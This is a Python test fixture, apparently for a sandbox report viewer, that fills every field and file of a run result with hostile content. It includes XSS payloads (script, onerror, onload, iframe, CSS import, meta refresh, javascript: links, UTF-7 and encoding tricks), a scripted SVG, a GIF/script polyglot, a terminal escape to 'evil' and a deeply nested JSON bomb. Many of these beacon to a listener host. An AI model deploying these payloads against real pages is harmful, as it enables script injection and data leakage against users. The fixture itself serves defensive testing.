"""A run that attacks whoever looks at its page: payloads in every field that the run, its profile or
its files decide. Each would, if it became markup, make an element with the id or class `attack`, ask
`listener` for something, or set the title to PWNED."""
import base64

from report.samples import artifact, ordinary, result


def payloads(listener):
    beacon = f"http://{listener}"
    return [
        f"</title></style></script><script class=attack>document.title='PWNED';fetch('{beacon}/script')</script>",
        f"\"><img class=attack src={beacon}/img onerror=\"document.title='PWNED'\">",
        f"'><svg class=attack onload=\"document.title='PWNED'\"><image href='{beacon}/svg'/></svg>",
        f"</pre></td></table><iframe class=attack src=\"{beacon}/frame\"></iframe>",
        f"<style class=attack>@import url({beacon}/css); body{{display:none}}</style>",
        f"</style><link class=attack rel=stylesheet href={beacon}/link>",
        f"<meta class=attack http-equiv=refresh content='0;url={beacon}/refresh'>",
        f"<base class=attack href={beacon}/>", f"<form class=attack action={beacon}/form><input autofocus></form>",
        f"<object class=attack data={beacon}/object></object><embed class=attack src={beacon}/embed>",
        "<a class=attack href=\"javascript:document.title='PWNED'\">click</a>", "javascript:document.title='PWNED'",
        "+ADw-script class+AD0-attack+AD4-document.title+AD0-'PWNED'+ADw-/script+AD4-",
        "&lt;script class=attack&gt;", "&#60;script class=attack&#62;", "--><p class=attack>", "]]><p class=attack>",
        "\x00<b\x00 class=attack>\x00", "\u202egnp.exe\u2066\u200b", "\u2028<b class=attack>\u2029",
        "\x1b]8;;http://evil\x07link\x1b]8;;\x07\x1b[2J", "\ufeff\u2060\ud800".encode("utf-8", "replace").decode(),
        "{{constructor.constructor('document.title=1')()}}", "expression(document.title='PWNED')",
        "\U000e0041\u00ad\u061c\ue000",
    ]


def svg(listener):
    """Scripts and loads of every kind; as a document of its own all of it would work."""
    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200"
 height="60" onload="document.title='PWNED'"><style>@import url(http://{listener}/svg-css);</style>
<script>document.title='PWNED';fetch('http://{listener}/svg-script')</script>
<rect width="200" height="60" fill="#0ca678"/><image xlink:href="http://{listener}/svg-image" width="9" height="9"/>
<use href="http://{listener}/svg-use#x"/><foreignObject width="90" height="20"><body xmlns="http://www.w3.org/1999/xhtml">
<iframe class="attack" src="http://{listener}/svg-frame"/><script>top.document.title='PWNED'</script></body>
</foreignObject><a href="javascript:alert(1)"><text y="20">x</text></a></svg>"""


def result_of(strings):
    """The same strings in every text of a result."""
    everything = " ".join(strings)
    denial = dict.fromkeys(["kind", "operation", "target", "syscall", "comm", "allow_with"], everything)
    return result(
        id=everything, profile={"name": everything, "sha256": everything}, argv=strings, status=everything,
        reason={"code": everything, "text": everything, "limit": everything, "observed": everything},
        started_at="2026-11-23T14:18:<b>Z", phase=everything, warnings=strings,
        denials=[denial | {"count": 1, "pid": 2, "passed": False}], network={"mode": everything},
        changes={"added": 1, "modified": 1, "deleted": 1, "bytes": 1, "run": everything, "applied": False},
        redactions=[{"secret": everything, "count": 1}],
        isolation=dict.fromkeys(["tier", "cgroup", "seccomp", "user"], everything) | dict.fromkeys(
            ["namespaces", "enforced", "degraded", "approximate"], strings),
        output={"stdout": {"text": "\n".join(strings), "bytes": 9, "truncated": True},
                "stderr": {"base64": base64.b64encode(b"\xff\xfe<b class=attack>\x80").decode(), "bytes": 9}})


def hostile(listener):
    strings = payloads(listener)
    lines = "\n".join(strings)
    quoted = ",".join('"' + s.replace('"', '""') + '"' for s in strings)
    files = [artifact(f"/workspace/{name}", content, kind) for name, content, kind in [
        ("page.html", f"<!DOCTYPE html><html><body>{lines}</body></html>", "text/html"),
        ("table.csv", f"{quoted}\n{quoted}\n", "text/csv"), ("table.tsv", lines.replace(" ", "\t"), "text/plain"),
        ("notes.md", f"[x](javascript:alert(1)) ![x](http://{listener}/md)\n{lines}", "text/markdown"),
        ("flow.mmd", f"graph TD\n A[\"{lines}\"]", "text/plain"), ("drawing.svg", svg(listener), "image/svg+xml"),
        ("fake.png", svg(listener), "image/png"), ("fake.json", "[" * 100_000, "application/json"),
        ("polyglot.gif", f"GIF89a/*<script class=attack>document.title='PWNED'</script>{lines}", "image/gif"),
    ]]
    files += [artifact(s, s, s) for s in strings]
    files.append(artifact(b"/workspace/\xff\xfe\"><b class=attack>", b"\xff<b class=attack>\n" * 3))
    for file in files:
        file["sha256"] = "\"><b class=attack>"
    return ordinary(result=result_of(strings), artifacts=files, sbx_version=strings[1])
